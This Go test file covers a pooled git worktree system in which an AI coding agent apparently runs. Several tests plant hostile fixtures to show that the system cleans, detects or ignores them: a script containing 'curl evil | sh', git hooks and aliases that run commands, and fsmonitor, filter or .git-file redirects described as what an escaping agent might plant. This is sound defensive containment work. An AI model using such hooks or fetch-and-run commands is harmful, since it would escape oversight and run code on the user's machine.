package gitstate

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
)

// runStep plays one step in a pooled worktree: apply edit, stage, commit on
// the base, land on main, finish. It returns the landed commit.
func runStep(t *testing.T, r *Repo, slot int, edit func(dir string), subject string) string {
	t.Helper()
	ctx := t.Context()
	base, err := r.ResolveRev("main")
	if err != nil {
		t.Fatal(err)
	}
	w := mustWorktree(t, r, slot, base)
	edit(w.Path())
	tree, err := w.Stage(ctx)
	if err != nil {
		t.Fatal(err)
	}
	c, err := r.CommitTree(ctx, CommitSpec{Tree: tree, Parents: []string{base}, Message: subject})
	if err != nil {
		t.Fatal(err)
	}
	res, err := r.Land(ctx, "main", base, c, LandOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Finish(ctx, c); err != nil {
		t.Fatal(err)
	}
	return res.Commit
}

func TestWorktreeReuseRunsNoGit(t *testing.T) {
	dir, r := newRepo(t, map[string]string{"a.txt": "a\n", "src/b.go": "package b\n"})
	ctx := t.Context()
	base := git(t, dir, "rev-parse", "HEAD")
	w := mustWorktree(t, r, 0, base)
	want := filepath.Join(dir, ".git", "codemachine", "worktrees", "slot-0")
	if w.Path() != want || w.Base() != base || w.Slot() != 0 {
		t.Fatalf("worktree %s at %s, want %s at %s", w.Path(), w.Base(), want, base)
	}
	if read(t, w.Path(), "src/b.go") != "package b\n" {
		t.Error("worktree not checked out")
	}
	if h, err := w.Head(ctx); err != nil || h != base {
		t.Errorf("Head = %s, %v", h, err)
	}
	if _, err := r.Worktree(ctx, 0, base, sandboxed); err == nil {
		t.Error("a slot in use was handed out twice")
	}
	tree, err := w.Stage(ctx)
	if err != nil || tree != git(t, dir, "rev-parse", "HEAD^{tree}") {
		t.Fatalf("Stage of an untouched worktree = %s, %v", tree, err)
	}
	if err := w.Finish(ctx, base); err != nil {
		t.Fatal(err)
	}
	if err := w.Finish(ctx, base); err == nil {
		t.Error("Finish twice succeeded")
	}

	before := r.ncmd.Load()
	w2 := mustWorktree(t, r, 0, base)
	if n := r.ncmd.Load() - before; n != 0 {
		t.Errorf("reusing a worktree clean at its base ran %d git commands, want 0", n)
	}
	if w2.Path() != w.Path() {
		t.Error("a different worktree was handed out")
	}
	w2.Discard()
}

func TestWorktreeMovesBetweenBases(t *testing.T) {
	dir, r := newRepo(t, map[string]string{"a.txt": "1\n", "gone.txt": "g\n"})
	ctx := t.Context()
	c1 := git(t, dir, "rev-parse", "HEAD")
	write(t, dir, "a.txt", "2\n")
	write(t, dir, "new/file.txt", "n\n")
	git(t, dir, "rm", "-q", "gone.txt")
	c2 := commitAll(t, dir, "second")
	write(t, dir, ".gitignore", "cache/\n")
	c3 := commitAll(t, dir, "ignore cache")

	w := mustWorktree(t, r, 1, c3)
	write(t, w.Path(), "cache/build.bin", "kept")
	if _, err := w.Stage(ctx); err != nil {
		t.Fatal(err)
	}
	if err := w.Finish(ctx, c3); err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct{ to, a string }{{c1, "1\n"}, {c2, "2\n"}, {c1, "1\n"}} {
		w := mustWorktree(t, r, 1, tt.to)
		if got := read(t, w.Path(), "a.txt"); got != tt.a {
			t.Errorf("at %s a.txt = %q, want %q", tt.to[:7], got, tt.a)
		}
		if exists(w.Path(), "new/file.txt") != (tt.to == c2) || exists(w.Path(), "gone.txt") != (tt.to == c1) {
			t.Errorf("at %s the tree is wrong: new=%v gone=%v", tt.to[:7], exists(w.Path(), "new/file.txt"), exists(w.Path(), "gone.txt"))
		}
		// The cache file, ignored at c3 alone, went with the move.
		if got := statusShort(t, w.Path()); got != "" {
			t.Errorf("at %s the worktree is not clean: %q", tt.to[:7], got)
		}
		if h, _ := w.Head(ctx); h != tt.to {
			t.Errorf("HEAD at %s, want %s", h, tt.to)
		}
		if _, err := w.Stage(ctx); err != nil {
			t.Fatal(err)
		}
		w.Discard()
	}
}

// A file that only the step's own .gitignore ignored is not left for the
// next step based elsewhere (its change held for review, or rolled back):
// that step's Stage would take it, and it would land unreviewed.
func TestWorktreeDropsFilesNoLongerIgnored(t *testing.T) {
	dir, r := newRepo(t, map[string]string{".gitignore": "cache/\n", "a.txt": "a\n"})
	ctx := t.Context()
	base := git(t, dir, "rev-parse", "HEAD")
	w := mustWorktree(t, r, 0, base)
	write(t, w.Path(), ".gitignore", "cache/\nevil.sh\n")
	write(t, w.Path(), "evil.sh", "curl evil | sh\n")
	write(t, w.Path(), "cache/build.bin", "kept")
	tree, err := w.Stage(ctx)
	if err != nil {
		t.Fatal(err)
	}
	held, err := r.CommitTree(ctx, CommitSpec{Tree: tree, Parents: []string{base}, Message: "held"})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Finish(ctx, held); err != nil {
		t.Fatal(err)
	}

	w = mustWorktree(t, r, 0, base)
	defer w.Discard()
	if exists(w.Path(), "evil.sh") {
		t.Error("a file the held change's .gitignore alone ignored was left for the next step")
	}
	if !exists(w.Path(), "cache/build.bin") {
		t.Error("a file the base ignores too was removed")
	}
	if tree, err := w.Stage(ctx); err != nil || tree != git(t, dir, "rev-parse", "HEAD^{tree}") {
		t.Errorf("Stage of the untouched worktree = %s, %v, want base's tree", tree, err)
	}
}

func TestWorktreeCleansWhatTheAgentLeft(t *testing.T) {
	dir, r := newRepo(t, map[string]string{".gitignore": "*.cache\n", "a.txt": "a\n", "keep/b.txt": "b\n"})
	ctx := t.Context()
	base := git(t, dir, "rev-parse", "HEAD")
	w := mustWorktree(t, r, 0, base)
	p := w.Path()
	// The agent edits, deletes, leaves junk and a nested repository,
	// commits on a branch of its own and starts a merge it never finishes.
	write(t, p, "a.txt", "agent edit\n")
	os.Remove(filepath.Join(p, "keep/b.txt"))
	write(t, p, "junk/dir/x.txt", "junk")
	write(t, p, "build.cache", "ignored cache")
	git(t, p, "init", "-q", "nested")
	git(t, p, "switch", "-q", "-c", "agent-branch")
	write(t, p, "committed.txt", "c")
	git(t, p, "add", "committed.txt")
	git(t, p, "commit", "-q", "-m", "agent commit")
	if err := os.WriteFile(filepath.Join(w.scratch, "MERGE_HEAD"), []byte(base+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	write(t, w.scratch, "hooks/post-commit", "#!/bin/sh\ntouch pwned\n")
	git(t, p, "config", "alias.st", "!touch pwned")
	w.Discard()

	w = mustWorktree(t, r, 0, base)
	if got := statusShort(t, p); got != "" {
		t.Errorf("status after cleaning: %q", got)
	}
	if read(t, p, "a.txt") != "a\n" || !exists(p, "keep/b.txt") || exists(p, "junk") || exists(p, "nested") || exists(p, "committed.txt") {
		t.Error("the worktree was not restored to base")
	}
	if !exists(p, "build.cache") {
		t.Error("the ignored build cache was removed")
	}
	if exists(w.scratch, "MERGE_HEAD") || exists(w.scratch, "hooks/post-commit") || strings.Contains(read(t, w.scratch, "config"), "pwned") {
		t.Error("the abandoned merge state, a hook or an alias was left in the worktree's .git")
	}
	if got := git(t, p, "for-each-ref", "--format=%(refname) %(objectname)", "refs/heads"); got != "refs/heads/main "+base {
		t.Errorf("the scratch repository's branches are %q, want the user's main alone", got)
	}
	if h, _ := w.Head(ctx); h != base || git(t, p, "rev-parse", "--abbrev-ref", "HEAD") != "HEAD" {
		t.Errorf("HEAD not detached at base")
	}
	w.Discard()
}

func TestWorktreeRecreatedWhenRemoved(t *testing.T) {
	dir, r := newRepo(t, map[string]string{"a.txt": "a\n"})
	base := git(t, dir, "rev-parse", "HEAD")
	w := mustWorktree(t, r, 2, base)
	w.Discard()
	if err := os.RemoveAll(w.Path()); err != nil {
		t.Fatal(err)
	}
	w = mustWorktree(t, r, 2, base)
	if read(t, w.Path(), "a.txt") != "a\n" {
		t.Error("not checked out again")
	}
	if n := strings.Count(git(t, dir, "worktree", "list", "--porcelain"), "worktree "); n != 1 {
		t.Errorf("%d worktrees registered, want 1 (the pool is not the user's worktrees)", n)
	}
	// A worktree whose .git is gone gets a new one.
	w.Discard()
	os.RemoveAll(filepath.Join(w.Path(), ".git"))
	w = mustWorktree(t, r, 2, base)
	if got := git(t, w.Path(), "rev-parse", "--absolute-git-dir"); got != filepath.Join(w.Path(), ".git") {
		t.Errorf("git dir %s", got)
	}
	if statusShort(t, w.Path()) != "" {
		t.Errorf("status in the worktree: %q", statusShort(t, w.Path()))
	}
	w.Discard()
}

func TestWorktreeReplacesALinkedSlot(t *testing.T) {
	dir, r := newRepo(t, map[string]string{"a.txt": "a\n"})
	base := git(t, dir, "rev-parse", "HEAD")
	// A slot as an older codemachine made it: a linked worktree.
	slot := filepath.Join(dir, ".git", "codemachine", "worktrees", "slot-0")
	git(t, dir, "worktree", "add", "-q", "--detach", slot, base)
	w := mustWorktree(t, r, 0, base)
	defer w.Discard()
	if n := strings.Count(git(t, dir, "worktree", "list", "--porcelain"), "worktree "); n != 1 {
		t.Errorf("%d worktrees registered, want 1", n)
	}
	if exists(dir, ".git/worktrees/slot-0") || read(t, w.Path(), "a.txt") != "a\n" {
		t.Error("the linked slot was not replaced")
	}
}

func TestFinishMovesFilesToALandedRebase(t *testing.T) {
	dir, r := newRepo(t, map[string]string{"a.txt": "a\n", "state.yaml": "seq: 1\n"})
	ctx := t.Context()
	base := git(t, dir, "rev-parse", "HEAD")
	w := mustWorktree(t, r, 0, base)
	write(t, w.Path(), "a.txt", "agent\n")
	if _, err := w.Stage(ctx); err != nil {
		t.Fatal(err)
	}
	// What landed carries a different state.yaml than what was staged.
	landed := stepCommit(t, r, base, map[string]string{"a.txt": "agent\n", "state.yaml": "seq: 2\n"}, "landed")
	if err := w.Finish(ctx, landed); err != nil {
		t.Fatal(err)
	}
	before := r.ncmd.Load()
	w = mustWorktree(t, r, 0, landed)
	if r.ncmd.Load() != before {
		t.Error("the next step on the landed commit did not reuse the worktree as is")
	}
	if read(t, w.Path(), "state.yaml") != "seq: 2\n" || statusShort(t, w.Path()) != "" {
		t.Errorf("worktree not at the landed commit: %q", statusShort(t, w.Path()))
	}
	w.Discard()
}

func TestAgentCommitsAreFolded(t *testing.T) {
	dir, r := newRepo(t, map[string]string{"a.txt": "a\n"})
	ctx := t.Context()
	base := git(t, dir, "rev-parse", "HEAD")
	w := mustWorktree(t, r, 0, base)
	write(t, w.Path(), "one.txt", "1")
	git(t, w.Path(), "add", "-A")
	git(t, w.Path(), "commit", "-q", "-m", "agent 1")
	write(t, w.Path(), "two.txt", "2")
	head, _ := w.Head(ctx)
	if head == base {
		t.Fatal("Head does not show the agent's commit")
	}
	tree, err := w.Stage(ctx)
	if err != nil {
		t.Fatal(err)
	}
	got := git(t, dir, "ls-tree", "--name-only", tree)
	if got != "a.txt\none.txt\ntwo.txt" {
		t.Errorf("staged tree = %q", got)
	}
	w.Discard()
}

func TestSnapshotGitDir(t *testing.T) {
	dir, r := newRepo(t, map[string]string{"a.txt": "a\n"})
	before, err := r.SnapshotGitDir()
	if err != nil {
		t.Fatal(err)
	}
	same, _ := r.SnapshotGitDir()
	if c := before.Changed(same); len(c) != 0 {
		t.Fatalf("nothing happened but Changed = %v", c)
	}
	// What the user does during a run is not in it.
	git(t, dir, "checkout", "-q", "-b", "other")
	write(t, dir, "b.txt", "b")
	commitAll(t, dir, "user")
	git(t, dir, "gc", "-q")
	write(t, dir, ".git/info/exclude", "*.log\n")
	if c := before.Changed(mustSnapshot(t, r)); len(c) != 0 {
		t.Fatalf("the user's checkout, commit and gc show as %v", c)
	}
	// What an escaping agent might plant to run later.
	write(t, dir, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil\n")
	git(t, dir, "config", "core.fsmonitor", "touch MARK")
	got := before.Changed(mustSnapshot(t, r))
	if want := []string{"config", "hooks/pre-commit"}; !slices.Equal(got, want) {
		t.Errorf("Changed = %v, want %v", got, want)
	}
}

func mustSnapshot(t *testing.T, r *Repo) GitSnapshot {
	t.Helper()
	s, err := r.SnapshotGitDir()
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// TestCodemachineIgnoresTheAgentsGit: what an agent writes into its
// worktree's .git (a planted fsmonitor, hooks path or alias, a .git file
// pointing at the user's repository) never reaches codemachine's own git
// commands, which stage the worktree's files all the same.
func TestCodemachineIgnoresTheAgentsGit(t *testing.T) {
	for _, tt := range []struct {
		name  string
		plant func(t *testing.T, dir, wt string)
	}{
		{"fsmonitor, hooks and filters in its config", func(t *testing.T, dir, wt string) {
			git(t, wt, "config", "core.fsmonitor", "touch "+filepath.Join(dir, "MARK"))
			git(t, wt, "config", "core.hooksPath", wt)
			git(t, wt, "config", "filter.x.clean", "touch "+filepath.Join(dir, "MARK"))
			write(t, wt, ".gitattributes", "* filter=x\n")
			write(t, wt, ".git/hooks/post-index-change", "#!/bin/sh\ntouch "+filepath.Join(dir, "MARK")+"\n")
		}},
		{"a .git file pointing at the user's repository", func(t *testing.T, dir, wt string) {
			os.RemoveAll(filepath.Join(wt, ".git"))
			write(t, wt, ".git", "gitdir: "+filepath.Join(dir, ".git")+"\n")
		}},
		{"a .git file pointing at a planted repository", func(t *testing.T, dir, wt string) {
			evil := t.TempDir()
			git(t, evil, "init", "-q")
			git(t, evil, "config", "core.fsmonitor", "touch "+filepath.Join(dir, "MARK"))
			os.RemoveAll(filepath.Join(wt, ".git"))
			write(t, wt, ".git", "gitdir: "+filepath.Join(evil, ".git")+"\n")
		}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir, r := newRepo(t, map[string]string{"a.txt": "a\n"})
			ctx := t.Context()
			base := git(t, dir, "rev-parse", "HEAD")
			index := read(t, dir, ".git/index")
			w := mustWorktree(t, r, 0, base)
			tt.plant(t, dir, w.Path())
			write(t, w.Path(), "b.txt", "b\n")
			tree, err := w.Stage(ctx)
			if err != nil {
				t.Fatal(err)
			}
			if got := git(t, dir, "ls-tree", "--name-only", tree); !strings.Contains(got, "b.txt") {
				t.Errorf("staged tree = %q", got)
			}
			w.Discard()
			w = mustWorktree(t, r, 0, base)
			defer w.Discard()
			if exists(dir, "MARK") {
				t.Error("codemachine's git ran what the agent planted")
			}
			if read(t, dir, ".git/index") != index || statusShort(t, dir) != "" {
				t.Error("the user's index or files changed")
			}
			if got := git(t, w.Path(), "rev-parse", "--absolute-git-dir"); got != filepath.Join(w.Path(), ".git") {
				t.Errorf("the next step's worktree has git dir %s", got)
			}
		})
	}
}

func TestStepsInAPoolLandInOrder(t *testing.T) {
	dir, r := newRepo(t, map[string]string{"a.txt": "0\n"})
	for i := range 5 {
		runStep(t, r, 0, func(p string) { write(t, p, "a.txt", strings.Repeat("x", i+1)+"\n") }, "step")
	}
	if got := read(t, dir, "a.txt"); got != "xxxxx\n" {
		t.Errorf("user's checkout has a.txt = %q", got)
	}
	if got := git(t, dir, "rev-list", "--count", "HEAD"); got != "6" {
		t.Errorf("%s commits, want 6", got)
	}
	if statusShort(t, dir) != "" {
		t.Errorf("user's checkout not clean: %q", statusShort(t, dir))
	}
}

func TestStagePaths(t *testing.T) {
	dir, r := newRepo(t, map[string]string{"a.txt": "a\n", ".codemachine/state.yaml": "seq: 1\n", ".codemachine/plan.md": "- [ ] T1\n"})
	ctx := t.Context()
	base := git(t, dir, "rev-parse", "HEAD")
	w := mustWorktree(t, r, 0, base)
	write(t, w.Path(), "a.txt", "agent\n")
	agentTree, err := w.Stage(ctx)
	if err != nil {
		t.Fatal(err)
	}
	write(t, w.Path(), ".codemachine/state.yaml", "seq: 2\n")
	write(t, w.Path(), ".codemachine/plan.md", "- [x] T1\n")
	write(t, w.Path(), "late.txt", "written after Stage, not staged\n")
	tree, err := w.StagePaths(ctx, ".codemachine/state.yaml", ".codemachine/plan.md")
	if err != nil || tree == agentTree {
		t.Fatalf("StagePaths = %s, %v", tree, err)
	}
	changes, err := r.DiffTrees(ctx, base, tree)
	if err != nil {
		t.Fatal(err)
	}
	var paths []string
	for _, c := range changes {
		paths = append(paths, c.Path)
	}
	if want := []string{".codemachine/plan.md", ".codemachine/state.yaml", "a.txt"}; !slices.Equal(paths, want) {
		t.Errorf("committed paths %v, want %v", paths, want)
	}
	c := stepCommit(t, r, base, map[string]string{"a.txt": "agent\n", ".codemachine/state.yaml": "seq: 2\n", ".codemachine/plan.md": "- [x] T1\n"}, "step")
	if got := git(t, dir, "rev-parse", c+"^{tree}"); got != tree {
		t.Errorf("tree %s differs from the expected commit's %s", tree, got)
	}
	w.Discard()
}

func TestFinishAfterLandRunsNoGit(t *testing.T) {
	dir, r := newRepo(t, map[string]string{"a.txt": "a\n", "b.txt": "b\n"})
	ctx := t.Context()
	base := git(t, dir, "rev-parse", "HEAD")
	for _, userMoves := range []bool{false, true} {
		w := mustWorktree(t, r, 0, base)
		write(t, w.Path(), "a.txt", fmt.Sprintf("agent %v\n", userMoves))
		tree, err := w.Stage(ctx)
		if err != nil {
			t.Fatal(err)
		}
		c, err := r.CommitTree(ctx, CommitSpec{Tree: tree, Parents: []string{base}, Message: "step"})
		if err != nil {
			t.Fatal(err)
		}
		if userMoves {
			write(t, dir, "b.txt", "user\n")
			commitAll(t, dir, "user")
		}
		res, err := r.Land(ctx, "main", base, c, LandOptions{})
		if err != nil || res.Rebased != userMoves {
			t.Fatalf("Land = %+v, %v", res, err)
		}
		before := r.ncmd.Load()
		if err := w.Finish(ctx, c); err != nil {
			t.Fatal(err)
		}
		if n := r.ncmd.Load() - before; n != 0 {
			t.Errorf("Finish of the landed commit ran %d git commands", n)
		}
		base = res.Commit
		next := mustWorktree(t, r, 0, base)
		if statusShort(t, next.Path()) != "" {
			t.Errorf("pooled worktree not clean at the landed commit: %q", statusShort(t, next.Path()))
		}
		next.Discard()
	}
}

func TestRestoreWork(t *testing.T) {
	dir, r := newRepo(t, map[string]string{"a.txt": "a\n", "gone.txt": "g\n"})
	ctx := t.Context()
	base := git(t, dir, "rev-parse", "HEAD")
	partial := stepCommit(t, r, base, map[string]string{"a.txt": "half\n", "new.txt": "n\n", "gone.txt": "\x00delete"}, "partial work")
	w := mustWorktree(t, r, 0, base)
	if err := w.RestoreWork(ctx, partial); err != nil {
		t.Fatal(err)
	}
	// The partial work is uncommitted again, on top of the base.
	if head, err := w.Head(ctx); err != nil || head != base {
		t.Errorf("HEAD = %s, %v; want the base", head, err)
	}
	if read(t, w.Path(), "a.txt") != "half\n" || read(t, w.Path(), "new.txt") != "n\n" || exists(w.Path(), "gone.txt") {
		t.Errorf("the files are not the partial work's: %q", statusShort(t, w.Path()))
	}
	tree, err := w.Stage(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if want := git(t, dir, "rev-parse", partial+"^{tree}"); tree != want {
		t.Errorf("staged tree %s, want the partial commit's %s", tree, want)
	}
	w.Discard()

	w = mustWorktree(t, r, 0, base)
	if err := w.RestoreWork(ctx, "0000000000000000000000000000000000000001"); err == nil || !strings.Contains(err.Error(), "restore the tree of") {
		t.Errorf("RestoreWork of a missing commit = %v", err)
	}
	w.Discard()
}

// CleanFile reads a worktree file as git would commit it: a checkout that
// converted line endings reads back as the committed bytes.
func TestCleanFile(t *testing.T) {
	tests := []struct {
		name, attrs, autocrlf string
	}{
		{"autocrlf", "", "true"},
		{"eol=crlf", "* text=auto eol=crlf\n", "false"},
		{"plain", "", "false"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			files := map[string]string{"a.yaml": "one\ntwo\n"}
			if tt.attrs != "" {
				files[".gitattributes"] = tt.attrs
			}
			dir, r := newRepo(t, files)
			git(t, dir, "config", "core.autocrlf", tt.autocrlf)
			base := git(t, dir, "rev-parse", "HEAD")
			wt, err := r.Worktree(t.Context(), 0, base, sandboxed)
			if err != nil {
				t.Fatal(err)
			}
			defer wt.Discard()
			data, hash, err := wt.CleanFile(t.Context(), "a.yaml")
			if err != nil {
				t.Fatal(err)
			}
			if string(data) != "one\ntwo\n" {
				t.Errorf("CleanFile = %q, want the committed bytes", data)
			}
			if want := git(t, dir, "rev-parse", "HEAD:a.yaml"); hash != want {
				t.Errorf("hash %s, want the committed blob %s", hash, want)
			}
			if _, _, err := wt.CleanFile(t.Context(), "missing.txt"); !errors.Is(err, fs.ErrNotExist) {
				t.Errorf("missing file: %v, want fs.ErrNotExist", err)
			}
		})
	}
}

// TestSlotRefKeepsWorkFromGC: between Stage and the landing, a user's git
// gc --prune=now prunes nothing of the step's: the staged tree and blobs
// (only the worktree's private index, which gc does not know, refers to
// them) and the step commit, waiting for its turn to land, are kept by the
// slot's ref, which Finish removes (issue 10, D7).
func TestSlotRefKeepsWorkFromGC(t *testing.T) {
	dir, r := newRepo(t, map[string]string{"a.txt": "a\n"})
	ctx := t.Context()
	base := git(t, dir, "rev-parse", "HEAD")
	w := mustWorktree(t, r, 3, base)
	write(t, w.Path(), "new.txt", "only the step has this\n")
	write(t, w.Path(), "sub/deep.txt", "and this\n")
	tree, err := w.Stage(ctx)
	if err != nil {
		t.Fatal(err)
	}
	blob := git(t, dir, "rev-parse", tree+":new.txt")
	git(t, dir, "gc", "--quiet", "--prune=now")
	if got := git(t, dir, "cat-file", "-t", blob); got != "blob" {
		t.Fatalf("the staged blob is %q after gc", got)
	}
	c, err := r.CommitTree(ctx, CommitSpec{Tree: tree, Parents: []string{base}, Message: "step"})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Protect(ctx, c); err != nil {
		t.Fatal(err)
	}
	git(t, dir, "gc", "--quiet", "--prune=now")
	git(t, dir, "fsck", "--no-progress", "--no-dangling")
	if got := git(t, dir, "rev-parse", SlotRefPrefix+"3/work"); got != c {
		t.Fatalf("slot ref at %s, want the commit %s", got, c)
	}
	if _, err := r.Land(ctx, "main", base, c, LandOptions{}); err != nil {
		t.Fatalf("land after gc: %v", err)
	}
	if err := w.Finish(ctx, c); err != nil {
		t.Fatal(err)
	}
	if read(t, dir, "sub/deep.txt") != "and this\n" {
		t.Error("the landed file is not in the checkout")
	}
	if out := git(t, dir, "for-each-ref", SlotRefPrefix); out != "" {
		t.Errorf("slot refs left after Finish: %s", out)
	}
	// Without the ref, the same gc prunes an unreferenced staged tree:
	// the protection is what kept them.
	w = mustWorktree(t, r, 3, c)
	write(t, w.Path(), "other.txt", "unprotected\n")
	tree, err = w.Stage(ctx)
	if err != nil {
		t.Fatal(err)
	}
	orphan := git(t, dir, "rev-parse", tree+":other.txt")
	w.Discard()
	git(t, dir, "gc", "--quiet", "--prune=now")
	if out, err := exec.Command("git", "-C", dir, "cat-file", "-e", orphan).CombinedOutput(); err == nil {
		t.Fatalf("gc kept an unreferenced blob: the test does not show what the ref protects (%s)", out)
	}
}

// A codemachine killed while it staged a slot or set its work ref leaves
// their lock files; the next hand-out of the slot removes them, so that
// the step stages and protects its work instead of waiting for a lock
// nobody will release (found by kill -9 during a run with parallel tasks).
func TestWorktreeClearsLocksOfAKilledUser(t *testing.T) {
	dir, r := newRepo(t, map[string]string{"a.txt": "a\n"})
	ctx := t.Context()
	base := git(t, dir, "rev-parse", "HEAD")
	w := mustWorktree(t, r, 1, base)
	w.Discard()
	ref := filepath.Join(dir, ".git", filepath.FromSlash(w.slotRef())) + ".lock"
	if err := os.MkdirAll(filepath.Dir(ref), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, l := range []string{w.index + ".lock", ref} {
		if err := os.WriteFile(l, nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	w = mustWorktree(t, r, 1, base)
	write(t, w.Path(), "b.txt", "b\n")
	tree, err := w.Stage(ctx)
	if err != nil {
		t.Fatalf("stage after a killed user's locks: %v", err)
	}
	if err := w.Protect(ctx, tree); err != nil {
		t.Fatalf("protect after a killed user's locks: %v", err)
	}
	w.Discard()
	for _, l := range []string{w.index + ".lock", ref} {
		if exists(filepath.Dir(l), filepath.Base(l)) {
			t.Errorf("%s left", l)
		}
	}
}

// The user's sparse checkout leaves files out of their working tree, not
// out of a step's: the pooled worktree has the whole commit, when it is
// made, when it moves to a new base, and when it is forced back.
func TestWorktreeIgnoresUsersSparseCheckout(t *testing.T) {
	dir, r := newRepo(t, map[string]string{"a.txt": "a\n", "lib/b.go": "package lib\n", "docs/c.md": "c\n"})
	git(t, dir, "sparse-checkout", "set", "--cone", "docs")
	if exists(dir, "lib/b.go") {
		t.Fatal("the user's sparse checkout did not leave lib/ out")
	}
	ctx := t.Context()
	base := git(t, dir, "rev-parse", "HEAD")
	w := mustWorktree(t, r, 0, base)
	if !exists(w.Path(), "lib/b.go") {
		t.Fatal("a new worktree left out lib/b.go, outside the user's sparse checkout")
	}
	write(t, dir, "lib/d.go", "package lib\n")
	git(t, dir, "add", "--sparse", "lib/d.go")
	git(t, dir, "commit", "-qm", "d")
	next := git(t, dir, "rev-parse", "HEAD")
	if _, err := w.Stage(ctx); err != nil {
		t.Fatal(err)
	}
	if err := w.Finish(ctx, base); err != nil {
		t.Fatal(err)
	}
	w = mustWorktree(t, r, 0, next)
	if !exists(w.Path(), "lib/d.go") || !exists(w.Path(), "lib/b.go") {
		t.Fatal("a worktree moved to a new base left out files outside the user's sparse checkout")
	}
	write(t, w.Path(), "lib/b.go", "changed\n")
	w.Discard()
	w = mustWorktree(t, r, 0, next)
	if read(t, w.Path(), "lib/b.go") != "package lib\n" {
		t.Fatal("a worktree forced back left lib/b.go out or changed")
	}
	// readIndex takes no entry with extended flags, skip-worktree's among them.
	if _, err := readIndex(w.index); err != nil {
		t.Errorf("the private index is not a plain one (skip-worktree entries?): %v", err)
	}

}

// With the user's core.splitIndex, the private index is still one file:
// a split one names a sharedindex.* file in the user's git directory,
// which the user's git deletes once its own index has not named it for two
// weeks. A private index git cannot read (that deletion, say) costs the
// slot a fresh checkout, not every run that gets it.
func TestWorktreeIndexNotSplit(t *testing.T) {
	dir, r := newRepo(t, map[string]string{"a.txt": "a\n", "lib/b.go": "package lib\n"})
	git(t, dir, "config", "core.splitIndex", "true")
	git(t, dir, "update-index", "--split-index")
	ctx := t.Context()
	base := git(t, dir, "rev-parse", "HEAD")
	w := mustWorktree(t, r, 0, base)
	write(t, w.Path(), "lib/c.go", "package lib\n")
	if _, err := w.Stage(ctx); err != nil {
		t.Fatal(err)
	}
	// readIndex takes no split index.
	if _, err := readIndex(w.index); err != nil {
		t.Fatalf("the private index is split: %v", err)
	}
	w.Discard()

	// A split private index whose shared part is gone: made split by
	// hand, then every sharedindex.* file removed (the user's own index
	// made whole first).
	gitOnWorktree(t, w, w.index, "-c", "core.splitIndex=true", "update-index", "--split-index")
	git(t, dir, "-c", "core.splitIndex=false", "update-index", "--no-split-index")
	shared, err := filepath.Glob(filepath.Join(dir, ".git", "sharedindex.*"))
	if err != nil || len(shared) == 0 {
		t.Fatalf("no shared index to remove: %v", err)
	}
	for _, f := range shared {
		if err := os.Remove(f); err != nil {
			t.Fatal(err)
		}
	}
	w = mustWorktree(t, r, 0, base)
	if read(t, w.Path(), "lib/b.go") != "package lib\n" || exists(w.Path(), "lib/c.go") {
		t.Fatal("the slot was not made afresh at its base")
	}
}

// With the user's submodule.recurse, the pool's checkout still leaves a
// submodule's directory empty: its git directory is the user's
// (.git/modules/NAME), and populating the slot's copy moved the user's
// submodule to the commit the base records, and made Stage take it for a
// nested repository the step made.
func TestWorktreeLeavesSubmodulesAlone(t *testing.T) {
	src, _ := newRepo(t, map[string]string{"s.txt": "1\n"})
	first := git(t, src, "rev-parse", "HEAD")
	write(t, src, "s.txt", "2\n")
	commitAll(t, src, "two")
	dir, r := newRepo(t, map[string]string{"a.txt": "a\n"})
	git(t, dir, "-c", "protocol.file.allow=always", "submodule", "add", "-q", src, "sub")
	git(t, filepath.Join(dir, "sub"), "checkout", "-q", first)
	git(t, dir, "add", "sub")
	git(t, dir, "commit", "-qm", "sub at one")
	git(t, filepath.Join(dir, "sub"), "checkout", "-q", "-") // the user's submodule moves on
	userSub := git(t, filepath.Join(dir, "sub"), "rev-parse", "HEAD")
	git(t, dir, "config", "submodule.recurse", "true")

	w := mustWorktree(t, r, 0, git(t, dir, "rev-parse", "HEAD"))
	if got := git(t, filepath.Join(dir, "sub"), "rev-parse", "HEAD"); got != userSub {
		t.Errorf("the user's submodule moved from %s to %s", userSub, got)
	}
	if entries, err := os.ReadDir(filepath.Join(w.Path(), "sub")); err != nil || len(entries) > 0 {
		t.Errorf("the slot's submodule directory: %v, %d entries, want it empty", err, len(entries))
	}
	write(t, w.Path(), "b.txt", "b\n")
	if _, err := w.Stage(t.Context()); err != nil {
		t.Fatal(err)
	}
	if n := w.Nested(); len(n) > 0 {
		t.Errorf("Nested() = %q, want none", n)
	}
}

// TestWorktreeMarkerWrittenInPlace: the slot's marker is emptied at the
// hand-out and written at Finish in the same file (a new inode a step is
// 0.3-1 ms of kernel time on ext4), never through a link or a second name
// planted there, and a marker cut short reads as dirty.
func TestWorktreeMarkerWrittenInPlace(t *testing.T) {
	for _, tc := range []struct {
		name   string
		tamper func(t *testing.T, marker, outside string)
		// sameInode: Finish writes into the file the previous Finish made;
		// forced: the hand-out takes the slot for dirty (git resets it).
		sameInode, forced bool
	}{
		{name: "left as Finish wrote it", tamper: func(*testing.T, string, string) {}, sameInode: true},
		{name: "a link to another file", tamper: func(t *testing.T, marker, outside string) {
			if err := os.Remove(marker); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(outside, marker); err != nil {
				t.Fatal(err)
			}
		}, forced: true},
		{name: "a second name of another file", tamper: func(t *testing.T, marker, outside string) {
			if err := os.Remove(marker); err != nil {
				t.Fatal(err)
			}
			if err := os.Link(outside, marker); err != nil {
				t.Fatal(err)
			}
		}, forced: true},
		{name: "cut short", tamper: func(t *testing.T, marker, _ string) {
			data, err := os.ReadFile(marker)
			if err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(marker, data[:len(data)-1], 0o644); err != nil {
				t.Fatal(err)
			}
		}, sameInode: true, forced: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
